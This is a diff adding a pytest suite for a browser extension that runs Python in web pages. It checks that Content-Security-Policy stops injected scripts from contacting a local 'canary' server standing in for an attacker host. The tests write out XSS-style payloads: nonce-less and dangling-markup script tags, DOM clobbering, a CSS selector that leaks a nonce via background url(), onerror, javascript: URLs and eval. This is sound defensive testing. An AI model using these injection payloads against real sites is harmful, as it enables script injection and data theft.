@@ -1,0 +1,365 @@
+"""Attackers who can put markup into a page with a Content-Security-Policy, or whose Python runs under one.
+
+Whatever ran would have asked a *canary* server for something. Each page has a tag that the policy allows, so that it is
+seen that Python was there, and nothing else ran.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+from collections.abc import Iterator
+
+import pytest
+
+from tests.support.extension import ask, tab_id
+from tests.support.site import Site
+from tests.support.tab import Tab
+
+pytestmark = pytest.mark.timeout(180)
+
+OPEN_TO_ALL = {"Access-Control-Allow-Origin": "*"}
+NONCE = "script-src 'nonce-abc'"
+STRICT = "script-src 'nonce-abc' 'strict-dynamic'"
+LAST = '<script type="python" nonce="abc" id="last">print("the page\'s own tag ran")</script>'
+
+
+@pytest.fixture
+def canary(tab: Tab) -> Iterator[Site]:
+    """A server that answers everybody, and counts. Not asked for anything by the end of a test."""
+    made = Site()
+    made.add_python("/evil.py", f'window.fetch("{made.origin}/ran")', headers=OPEN_TO_ALL)
+    made.add("/ran", "", "text/plain", headers=OPEN_TO_ALL)
+    yield made
+    made.close()
+
+
+def attack(canary: Site) -> str:
+    """Python that tells the canary that it ran."""
+    return f'window.fetch("{canary.origin}/ran")'
+
+
+def evil(canary: Site, name: str, attributes: str = "") -> str:
+    """An inline tag of the attacker's."""
+    return f'<script type="python" id="{name}" {attributes}>{attack(canary)}</script>'
+
+
+def far(canary: Site, name: str, attributes: str = "") -> str:
+    """A tag of the attacker's whose source is at the canary."""
+    return f'<script type="python" id="{name}" src="{canary.origin}/evil.py" {attributes}></script>'
+
+
+def page(tab: Tab, body: str, policy: str | list[str] = NONCE, head: str = "") -> str:
+    """Open a page with a policy, and the page's own tag at its end; returns the URL."""
+    html = f"<!doctype html><meta charset=utf-8>{head}<title>Attacked</title><body>{body}{LAST}</body>"
+    return tab.open(html, headers={"Content-Security-Policy": policy})
+
+
+def refused(tab: Tab) -> set[str]:
+    """The ids of the tags that were not let run."""
+    return {
+        line.split('id "')[1].split('"')[0] for line in tab.printed if "did not run" in line and 'with the id "' in line
+    }
+
+
+def until_refused(tab: Tab, *names: str) -> None:
+    """Wait until these tags were refused, and the page's own has run."""
+    tab.until(lambda: set(names) <= refused(tab), f"a refusal of each of {names}")
+    tab.until_printed("the page's own tag ran")
+
+
+def test_the_canary_hears_of_python_that_runs(tab: Tab, canary: Site) -> None:
+    """The attack would be noticed if it succeeded."""
+    page(tab, evil(canary, "inline", 'nonce="abc"') + far(canary, "far", 'nonce="abc"'))
+    tab.until(lambda: canary.asked("/ran") == 2, "two attacks")
+
+
+def test_injected_tags_do_not_run(tab: Tab, canary: Site) -> None:
+    """Markup without the nonce, with a wrong one, or from another host."""
+    page(
+        tab,
+        evil(canary, "none")
+        + evil(canary, "wrong", 'nonce="xyz"')
+        + far(canary, "far")
+        + far(canary, "async", "async"),
+    )
+    until_refused(tab, "none", "wrong", "far", "async")
+    assert canary.requests == []
+
+
+def test_one_header_that_denies_is_enough(tab: Tab, canary: Site) -> None:
+    """Of two headers, the stricter counts, in any order."""
+    page(tab, evil(canary, "second"), ["script-src 'unsafe-inline'", NONCE])
+    until_refused(tab, "second")
+    page(tab, evil(canary, "first"), [NONCE, "script-src 'unsafe-inline'"])
+    until_refused(tab, "first")
+    assert canary.requests == []
+
+
+def test_a_policy_of_the_markup_is_neither_lifted_by_a_later_one_nor_by_its_removal(tab: Tab, canary: Site) -> None:
+    """Metas add up; one that was removed stays in force."""
+    meta = '<meta http-equiv="Content-Security-Policy" content="{}">'
+    page(
+        tab,
+        evil(canary, "behind")
+        + '<script nonce="abc">document.querySelector("meta[http-equiv]").remove();</script>'
+        + evil(canary, "removed"),
+        [],
+        meta.format(NONCE) + meta.format("script-src * 'unsafe-inline'"),
+    )
+    until_refused(tab, "behind", "removed")
+    assert canary.requests == []
+
+
+def test_a_late_meta_governs_what_comes_after_it_alone(tab: Tab, canary: Site) -> None:
+    """As for JavaScript, what stood before it has been allowed."""
+    before = '<script type="python">print("the tag before it ran")</script>'
+    meta = f'<meta http-equiv="Content-Security-Policy" content="{NONCE}">'
+    tab.open(f"<!doctype html><head>{before}{meta}{evil(canary, 'after')}</head><body>{LAST}")
+    until_refused(tab, "after")
+    tab.until_printed("the tag before it ran")
+    assert canary.requests == []
+
+
+def test_what_was_checked_is_what_runs(tab: Tab, canary: Site) -> None:
+    """Text or src that is changed after the tag was inserted changes nothing."""
+    text = 'print("the text that was checked ran")'
+    value = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
+    tab.site.add_python("/checked.py", 'print("the src that was checked ran")')
+    page(
+        tab,
+        f'<script type="python" id="text">{text}</script>'
+        '<script type="python" id="src" src="/checked.py"></script>'
+        f"""<script nonce="abc">
+        const text = document.getElementById('text'), src = document.getElementById('src');
+        text.textContent = {json.dumps(attack(canary))};
+        src.src = {json.dumps(canary.origin + "/evil.py")};
+        addEventListener('load', () => {{ text.text = {json.dumps(attack(canary))}; }});
+        </script>""",
+        f"script-src 'nonce-abc' 'self' 'sha256-{value}'",
+    )
+    tab.until_printed("the text that was checked ran")
+    tab.until_printed("the src that was checked ran")
+    tab.until_printed("the page's own tag ran")
+    assert canary.requests == []
+
+
+def test_markup_left_open_does_not_take_the_nonce_of_the_next_script(tab: Tab, canary: Site) -> None:
+    """Dangling markup: the attacker's tag takes in the page's next one, its nonce included."""
+    own = '<script nonce="abc">window.own = 1</script>'
+    page(
+        tab,
+        f'<script type="python" id="name" src="{canary.origin}/evil.py" {own}'
+        f'<script type="python" id="value" src="{canary.origin}/evil.py" x=\'{own}',
+    )
+    tab.until(lambda: "name" in refused(tab), "the refusal")
+    assert canary.requests == []
+
+
+def test_styles_cannot_read_the_nonce_of_a_python_tag(tab: Tab, canary: Site) -> None:
+    """The browser hides the attribute, and Adder does not bring it back."""
+    style = f'<style>script[nonce^="a"] {{ display: block; background: url({canary.origin}/read) }}</style>'
+    page(tab, style)
+    tab.until_printed("the page's own tag ran")
+    assert tab.js("return document.getElementById('last').getAttribute('nonce')") == ""
+    assert canary.requests == []
+
+
+def test_a_redirect_leads_to_no_host_that_is_not_allowed(tab: Tab, canary: Site) -> None:
+    """Not even a request goes there."""
+    tab.site.add("/open.py", "", status=302, headers={"Location": canary.origin + "/evil.py"})
+    tab.site.add("/twice.py", "", status=302, headers={"Location": "/open.py"})
+    page(
+        tab,
+        '<script type="python" id="once" src="/open.py"></script>'
+        '<script type="python" id="twice" src="/twice.py"></script>',
+        "script-src 'self' 'nonce-abc'",
+    )
+    until_refused(tab, "once", "twice")
+    assert canary.requests == []
+
+
+def test_markup_that_a_script_inserts_is_not_what_strict_dynamic_trusts(tab: Tab, canary: Site) -> None:
+    """innerHTML and document.write are how markup gets injected; only elements that a script made are trusted."""
+    page(tab, "<div id=box></div>", STRICT)
+    tab.until_printed("the page's own tag ran")
+    html = (
+        evil(canary, "inline") + far(canary, "far") + evil(canary, "async", "async") + far(canary, "far-async", "async")
+    )
+    tab.js("document.getElementById('box').innerHTML = arguments[0]", html)
+    tab.until(lambda: {"async", "far-async"} <= refused(tab), "two refusals")
+    # Without `async`, Chromium's detector knows markup by its looks; in Firefox the browser itself is asked.
+    if tab.browser == "firefox":
+        tab.until(lambda: "inline" in refused(tab), "a third one")
+    else:
+        assert sum("inserted as markup" in line for line in tab.printed) == 2
+    tab.js("document.write(arguments[0] + '<p id=written>'); document.close()", html + LAST)
+    tab.until(lambda: tab.printed.count("the page's own tag ran") == 2, "the page's own tag, written anew")
+    assert canary.requests == []
+
+
+def test_elements_named_like_the_browsers_own_functions_change_nothing(tab: Tab, canary: Site) -> None:
+    """DOM clobbering: names that markup may give to elements of the document."""
+    names = ("readyState", "createElement", "documentElement", "querySelector", "getElementsByTagName", "head", "body")
+    clobber = "".join(
+        f'<img name="{name}"><form name="{name}" id="{name}"></form>' for name in (*names, "adderTags", "chrome")
+    )
+    inner = '<form><input name="attributes"><input name="querySelectorAll"><input name="getElementsByTagName">{}</form>'
+    body = (
+        clobber + inner.format(evil(canary, "inside")) + evil(canary, "inline", "async") + far(canary, "far", "async")
+    )
+    page(tab, body, STRICT)
+    tab.until(lambda: {"inside", "inline", "far"} <= refused(tab), "the refusals")
+    assert canary.requests == []
+
+
+SERVICE_WORKER = """
+self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', (event) => {
+  if (!event.request.url.endsWith('/made-here')) return;
+  event.respondWith(new Response(BODY, { headers: {
+    'Content-Type': 'text/html', 'Content-Security-Policy': POLICY,
+  } }));
+});
+"""
+
+
+@pytest.mark.parametrize("policy", [NONCE, STRICT], ids=["nonce", "strict-dynamic"])
+def test_the_policy_of_a_page_that_its_service_worker_made_holds(tab: Tab, canary: Site, policy: str) -> None:
+    """No extension sees the headers of such a page: the browser is asked, and what it cannot say is no."""
+    folder = f"/worker-{len(policy)}"
+    body = evil(canary, "inline") + far(canary, "far") + evil(canary, "async", "async") + LAST
+    script = f"const BODY = {json.dumps(body)}, POLICY = {json.dumps(policy)};{SERVICE_WORKER}"
+    tab.site.add(f"{folder}/sw.js", script, "text/javascript")
+    tab.site.add(f"{folder}/made-here", evil(canary, "network"))
+    tab.open(
+        "<script>navigator.serviceWorker.register('sw.js').then(() => navigator.serviceWorker.ready)"
+        ".then(() => { document.title = 'ready'; })</script>",
+        path=f"{folder}/start",
+    )
+    tab.until(lambda: tab.driver.title == "ready", "the service worker")
+    tab.go(f"{tab.site.origin}{folder}/made-here")
+    until_refused(tab, "inline", "far", "async")
+    assert tab.site.asked(f"{folder}/made-here") == 0
+    assert canary.requests == []
+
+
+def test_a_page_that_may_not_run_scripts_runs_no_python(tab: Tab, canary: Site) -> None:
+    """Sandboxed by its header, or in a frame that is, with its origin left to it."""
+    tags = evil(canary, "inline") + far(canary, "far")
+    tab.open(tags, headers={"Content-Security-Policy": "sandbox allow-same-origin"})
+    tab.site.add("/framed.html", tags)
+    page(
+        tab,
+        '<iframe sandbox="allow-same-origin" src="/framed.html"></iframe><iframe sandbox src="/framed.html"></iframe>'
+        f"<iframe sandbox='allow-same-origin' srcdoc='{evil(canary, 'srcdoc')}'></iframe>",
+        "script-src 'unsafe-inline' *",
+    )
+    tab.until_printed("the page's own tag ran")
+    assert canary.requests == []
+
+
+INSERTING = """
+from web import document, window
+def attempt(name, what):
+    try:
+        what()
+    except Exception as error:
+        print("attempt", name, type(error).__name__)
+    else:
+        print("attempt", name, "passed")
+code = CODE
+def script():
+    element = document.createElement("script")
+    element.textContent = code
+    document.body.append(element)
+def source():
+    element = document.createElement("script")
+    element.src = SOURCE
+    document.body.append(element)
+def handler():
+    document.body.setAttribute("onclick", code)
+    document.body.click()
+def markup():
+    document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='" + code + "'>")
+def link():
+    element = document.createElement("a")
+    element.href = "javascript:" + code
+    document.body.append(element)
+    element.click()
+for what in (script, source, handler, markup, link, lambda: window.eval(code), lambda: window.Function(code)()):
+    attempt(getattr(what, "__name__"), what)
+print("python's own", eval("1 + 1"))
+print("all attempts made")
+"""
+
+
+def test_python_gets_no_javascript_past_the_policy(tab: Tab, canary: Site) -> None:
+    """What Python inserts is the browser's to judge: script elements, handlers, javascript: URLs, eval."""
+    canary.add("/evil.js", f"fetch('{canary.origin}/ran')", "text/javascript", headers=OPEN_TO_ALL)
+    code = f"fetch(`{canary.origin}/ran`)"
+    text = INSERTING.replace("CODE", repr(code)).replace("SOURCE", repr(canary.origin + "/evil.js"))
+    page(tab, f'<script type="python" nonce="abc">{text}</script>')
+    tab.until_printed("all attempts made")
+    tab.until_printed("the page's own tag ran")
+    assert canary.requests == []
+    assert "python's own 2" in tab.printed
+    assert [line for line in tab.printed if line.startswith("attempt <lambda>")] == ["attempt <lambda> JSError"] * 2
+
+
+def test_trusted_types_hold_for_python(tab: Tab, canary: Site) -> None:
+    """A page that requires them takes no text from Python where it takes none from JavaScript."""
+    text = """
+from web import document
+box = document.querySelector("#box")
+for name in ("inner_html", "outer_html"):
+    try:
+        setattr(box, name, "<b>bold</b>")
+        print(name, "passed")
+    except TypeError as error:
+        print(name, "refused")
+    except Exception as error:
+        print(name, "refused:", type(error).__name__)
+try:
+    box.html = "<b>bold</b>"
+except Exception as error:
+    print("html refused")
+print("bold:", document.querySelector("b") is None)
+"""
+    policy = NONCE + "; require-trusted-types-for 'script'"
+    page(tab, f'<div id="box"></div><script type="python" nonce="abc">{text}</script>' + evil(canary, "none"), policy)
+    until_refused(tab, "none")
+    said = [line for line in tab.printed if "refused" in line or "passed" in line or line.startswith("bold")]
+    assert [line.split()[1][:7] for line in said] == ["refused", "refused", "refused", "True"]
+    assert canary.requests == []
+
+
+def test_a_refusal_is_told_to_the_element_the_console_and_the_popup(tab: Tab, canary: Site) -> None:
+    """The element gets `error`; the console names directive and policy."""
+    listen = (
+        '<script nonce="abc">addEventListener("error", (event) => { window.fired = event.target.id }, true)</script>'
+    )
+    url = page(tab, listen + evil(canary, "told"))
+    until_refused(tab, "told")
+    tab.until(lambda: tab.js("return window.fired") == "told", "the error event")
+    message = tab.until_message("the Python tag", "error").text
+    assert "it violates the directive \"script-src 'nonce-abc'\" of the page's Content-Security-Policy" in message
+    shape = json.loads(message.partition("securitypolicyviolation ")[2])
+    assert shape["blockedURI"] == "inline"
+    assert shape["effectiveDirective"] == "script-src-elem"
+    assert [shape["originalPolicy"], shape["source"], shape["disposition"]] == [NONCE, "header", "enforce"]
+    assert canary.requests == []
+
+    def shown(url: str) -> tuple[str, str]:
+        expression = "chrome.runtime.sendMessage({ to: 'background', type: 'tab-state', tabId: args[0] })"
+        (document,) = ask(tab.session, expression, tab_id(tab.session, url))["documents"]
+        return document["state"], document["reason"]
+
+    reason = "The page's own Content-Security-Policy forbids some of its Python: script-src 'nonce-abc'"
+    assert shown(url) == ("running", reason)
+    url = tab.open(evil(canary, "alone"), headers={"Content-Security-Policy": NONCE})
+    tab.until(lambda: "alone" in refused(tab), "the refusal")
+    assert shown(url) == ("error", reason)
+    assert canary.requests == []
